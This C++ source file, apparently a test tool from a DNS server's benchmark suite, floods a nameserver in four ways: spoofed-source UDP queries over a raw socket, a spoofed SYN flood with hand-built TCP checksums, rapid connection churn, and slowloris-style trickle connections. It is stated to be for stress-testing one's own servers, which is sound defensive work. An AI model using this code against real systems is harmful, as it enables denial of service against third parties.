// Does to a nameserver what attackers do, at a bounded rate and for a bounded time.
//
// Usage: attacker spoof ADDRESS PORT NETWORK RATE SECONDS FILE
//        attacker syn ADDRESS PORT NETWORK RATE SECONDS
//        attacker connect ADDRESS PORT NETWORK RATE SECONDS
//        attacker slow ADDRESS PORT NETWORK COUNT SECONDS
//
// spoof: sends RATE queries a second over UDP, whose source addresses are any of NETWORK, an IPv4
// /24 written as its first address. FILE holds the queries, each behind its length in two octets,
// most significant first. Needs a raw socket.
// syn: sends RATE packets a second that begin a TCP connection, from such addresses; no connection
// comes of them. Likewise.
// connect: opens RATE TCP connections a second from addresses of NETWORK, which must be local, and
// closes them a tenth of a second later.
// slow: keeps COUNT TCP connections open from addresses of NETWORK; each sends an octet of a query
// a second. One that the server closes is opened again, at most ten times a second each.
//
// Prints what was sent and how much of it the server took. Only for namespaces of one's own.

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <array>
#include <cerrno>
#include <chrono>
#include <cstddef>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <deque>
#include <random>
#include <span>
#include <stdexcept>
#include <string>
#include <string_view>
#include <thread>
#include <vector>

#include "packet_file.hpp"

namespace {

using Clock = std::chrono::steady_clock;
using arpad::bench::Octets;

constexpr std::chrono::milliseconds step{1};  // so often a part of the rate is sent
constexpr std::uint64_t steps_per_second = 1000;
constexpr std::uint32_t hosts = 254;  // of a /24
constexpr std::size_t batch = 64;     // packets that are sent at once: each must be one of its own

std::uint64_t number_of(std::string_view text) {
    const auto number = arpad::bench::parse_number<std::uint64_t>(text);
    if (!number) throw std::runtime_error("no number: " + std::string(text));
    return *number;
}

/// In the order of the host.
std::uint32_t ipv4_of(const char* text) {
    in_addr address{};
    if (inet_pton(AF_INET, text, &address) != 1) {
        throw std::runtime_error("no IPv4 address: " + std::string(text));
    }
    return ntohl(address.s_addr);
}

sockaddr_in endpoint_of(std::uint32_t address, std::uint16_t port) {
    sockaddr_in endpoint{};
    endpoint.sin_family = AF_INET;
    endpoint.sin_addr.s_addr = htonl(address);
    endpoint.sin_port = htons(port);
    return endpoint;
}

[[noreturn]] void fail(const char* what) {
    throw std::runtime_error(std::string(what) + ": " + std::strerror(errno));
}

/// What the command line says.
struct Attack {
    std::uint32_t server;
    std::uint16_t port;
    std::uint32_t network;
    std::uint64_t amount;  // a rate or a count
    std::chrono::seconds time;

    [[nodiscard]] std::uint32_t source(std::uint64_t number) const {
        return network + 1 + static_cast<std::uint32_t>(number % hosts);
    }
};

/// Calls `work(count)` each step with its part of `rate`, until `end`.
template <class Work>
void at_rate(std::uint64_t rate, Clock::time_point end, const Work& work) {
    std::uint64_t done = 0;
    const auto start = Clock::now();
    for (auto now = start; now < end; now = Clock::now()) {
        const auto steps = static_cast<std::uint64_t>((now - start) / step) + 1;
        const std::uint64_t due = steps * rate / steps_per_second;
        if (due > done) work(due - done);
        done = due;
        std::this_thread::sleep_until(start + steps * step);
    }
}

/// The header of a packet; the kernel completes it.
iphdr header_to(const Attack& attack, std::uint8_t protocol) {
    iphdr ip{};
    ip.version = 4;
    ip.ihl = sizeof ip / 4;
    ip.ttl = 64;
    ip.protocol = protocol;
    ip.daddr = htonl(attack.server);
    return ip;
}

/// `query` in a packet; source address and port are written later. Over UDP a checksum of 0 is none
/// (RFC 768).
Octets packet_with(const Octets& query, const Attack& attack) {
    Octets packet(sizeof(iphdr) + sizeof(udphdr) + query.size());
    const iphdr ip = header_to(attack, IPPROTO_UDP);
    udphdr udp{};
    udp.dest = htons(attack.port);
    udp.len = htons(static_cast<std::uint16_t>(sizeof udp + query.size()));
    std::memcpy(packet.data(), &ip, sizeof ip);
    std::memcpy(packet.data() + sizeof ip, &udp, sizeof udp);
    std::memcpy(packet.data() + sizeof ip + sizeof udp, query.data(), query.size());
    return packet;
}

/// A packet that begins a connection (RFC 9293 3.5); source address and port, and the checksum, are
/// written later.
Octets beginning_of_connection(const Attack& attack) {
    Octets packet(sizeof(iphdr) + sizeof(tcphdr));
    const iphdr ip = header_to(attack, IPPROTO_TCP);
    tcphdr tcp{};
    tcp.dest = htons(attack.port);
    tcp.doff = sizeof tcp / 4;
    tcp.syn = 1;
    tcp.window = htons(65'535);
    std::memcpy(packet.data(), &ip, sizeof ip);
    std::memcpy(packet.data() + sizeof ip, &tcp, sizeof tcp);
    return packet;
}

/// The sum of `octets`, of even length, as the checksum of TCP takes it (RFC 9293 3.1).
std::uint32_t sum_of(std::span<const std::uint8_t> octets) {
    std::uint32_t sum = 0;
    for (std::size_t i = 0; i + 1 < octets.size(); i += 2) {
        sum += static_cast<std::uint32_t>(octets[i] << 8U | octets[i + 1]);
    }
    return sum;
}

void write_tcp_checksum(Octets& packet) {
    const std::span<std::uint8_t> segment = std::span(packet).subspan(sizeof(iphdr));
    const auto checksum = segment.subspan(offsetof(tcphdr, check), sizeof(std::uint16_t));
    checksum[0] = checksum[1] = 0;
    const auto addresses = std::span(packet).subspan(offsetof(iphdr, saddr), 2 * sizeof(in_addr));
    std::uint32_t sum = sum_of(addresses) + IPPROTO_TCP +
                        static_cast<std::uint32_t>(segment.size()) + sum_of(segment);
    while (sum >> 16U != 0) sum = (sum & 0xFFFFU) + (sum >> 16U);
    checksum[0] = static_cast<std::uint8_t>(~sum >> 8U);
    checksum[1] = static_cast<std::uint8_t>(~sum);
}

/// The port is where both UDP and TCP have it.
void write_source(Octets& packet, std::uint32_t address, std::uint16_t port) {
    const std::uint32_t source = htonl(address);
    const std::uint16_t source_port = htons(port);
    std::memcpy(packet.data() + offsetof(iphdr, saddr), &source, sizeof source);
    std::memcpy(packet.data() + sizeof(iphdr) + offsetof(udphdr, source), &source_port,
                sizeof source_port);
}

/// Sends `packets` from any address and port; `complete(packet)` is called after each is changed.
template <class Complete>
void send_spoofed(const Attack& attack, std::vector<Octets> packets, const Complete& complete) {
    const int out = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (out < 0) fail("raw socket");
    std::mt19937 random(1);  // NOLINT(cert-msc51-cpp): each run sends the same
    std::uint64_t sent = 0;
    std::uint64_t octets = 0;
    std::array<mmsghdr, batch> messages{};
    std::array<iovec, batch> spans{};
    sockaddr_in to = endpoint_of(attack.server, 0);
    std::size_t next = 0;
    at_rate(attack.amount, Clock::now() + attack.time, [&](std::uint64_t count) {
        while (count > 0) {
            const std::size_t now = std::min<std::uint64_t>(count, batch);
            for (std::size_t i = 0; i < now; ++i) {
                Octets& packet = packets[next++ % packets.size()];
                write_source(packet, attack.source(random()),
                             static_cast<std::uint16_t>(1024 + random() % 60'000));
                complete(packet);
                spans[i] = {packet.data(), packet.size()};
                messages[i].msg_hdr = {&to, sizeof to, &spans[i], 1, nullptr, 0, 0};
                octets += packet.size();
            }
            const int result = sendmmsg(out, messages.data(), static_cast<unsigned>(now), 0);
            if (result < 0) fail("sending");
            sent += static_cast<std::uint64_t>(result);
            count -= now;
        }
    });
    close(out);
    std::printf("{\"sent\": %llu, \"octets\": %llu}\n", static_cast<unsigned long long>(sent),
                static_cast<unsigned long long>(octets));
}

void spoof(const Attack& attack, const char* path) {
    std::vector<Octets> packets;
    for (const Octets& query : arpad::bench::read_packets(path)) {
        packets.push_back(packet_with(query, attack));
    }
    if (packets.empty()) throw std::runtime_error("no queries");
    send_spoofed(attack, std::move(packets), [](Octets&) {});
}

void begin_connections(const Attack& attack) {
    send_spoofed(attack, std::vector(batch, beginning_of_connection(attack)), write_tcp_checksum);
}

/// A connection that is being opened from the address with `number`; negative if the system has
/// none left.
int open_connection(const Attack& attack, std::uint64_t number) {
    const int connection = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (connection < 0) return connection;
    const int on = 1;
    setsockopt(connection, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &on, sizeof on);
    const linger at_once{1, 0};
    setsockopt(connection, SOL_SOCKET, SO_LINGER, &at_once, sizeof at_once);
    const sockaddr_in own = endpoint_of(attack.source(number), 0);
    const sockaddr_in server = endpoint_of(attack.server, attack.port);
    if (bind(connection, reinterpret_cast<const sockaddr*>(&own), sizeof own) != 0) fail("bind");
    (void)connect(connection, reinterpret_cast<const sockaddr*>(&server), sizeof server);
    return connection;
}

void connect_often(const Attack& attack) {
    constexpr std::chrono::milliseconds kept{100};
    struct Open {
        int connection;
        Clock::time_point end;
    };
    std::deque<Open> open;
    std::uint64_t opened = 0;
    at_rate(attack.amount, Clock::now() + attack.time, [&](std::uint64_t count) {
        const auto now = Clock::now();
        for (; count > 0; --count) {
            const int connection = open_connection(attack, opened);
            if (connection < 0) break;
            open.push_back({connection, now + kept});
            ++opened;
        }
        for (; !open.empty() && open.front().end <= now; open.pop_front()) {
            close(open.front().connection);
        }
    });
    for (const Open& each : open) close(each.connection);
    std::printf("{\"opened\": %llu}\n", static_cast<unsigned long long>(opened));
}

void send_slowly(const Attack& attack) {
    constexpr std::uint64_t rounds_per_second = 10;
    std::vector<int> connections(attack.amount, -1);
    std::uint64_t opened = 0;
    std::uint64_t closed = 0;
    const auto start = Clock::now();
    for (std::uint64_t round = 0; Clock::now() < start + attack.time; ++round) {
        for (std::size_t i = 0; i < connections.size(); ++i) {
            int& connection = connections[i];
            if (connection >= 0 && round % rounds_per_second == i % rounds_per_second) {
                // The first two announce a message that is never whole.
                const std::uint8_t octet = 0xFF;
                if (send(connection, &octet, 1, MSG_NOSIGNAL) < 0 && errno != EAGAIN &&
                    errno != ENOTCONN) {
                    close(connection);
                    connection = -1;
                    ++closed;
                }
            }
            if (connection < 0) {
                connection = open_connection(attack, i);
                if (connection >= 0) ++opened;
            }
        }
        std::this_thread::sleep_until(start +
                                      (round + 1) * std::chrono::seconds(1) / rounds_per_second);
    }
    for (const int connection : connections) close(connection);
    std::printf("{\"opened\": %llu, \"closed\": %llu}\n", static_cast<unsigned long long>(opened),
                static_cast<unsigned long long>(closed));
}

int run(std::span<char*> arguments) {
    constexpr std::size_t common = 7;
    if (arguments.size() < common) {
        (void)std::fprintf(stderr, "attacker: see the head of attacker.cpp\n");
        return 2;
    }
    const Attack attack{ipv4_of(arguments[2]), static_cast<std::uint16_t>(number_of(arguments[3])),
                        ipv4_of(arguments[4]), number_of(arguments[5]),
                        std::chrono::seconds(number_of(arguments[6]))};
    const std::string_view kind = arguments[1];
    if (kind == "spoof" && arguments.size() == common + 1) {
        spoof(attack, arguments[common]);
    } else if (kind == "syn") {
        begin_connections(attack);
    } else if (kind == "connect") {
        connect_often(attack);
    } else if (kind == "slow") {
        send_slowly(attack);
    } else {
        return 2;
    }
    return 0;
}

}  // namespace

int main(int argc, char** argv) {
    try {
        return run({argv, static_cast<std::size_t>(argc)});
    } catch (const std::exception& failure) {
        (void)std::fprintf(stderr, "attacker: %s\n", failure.what());
        return 1;
    }
}
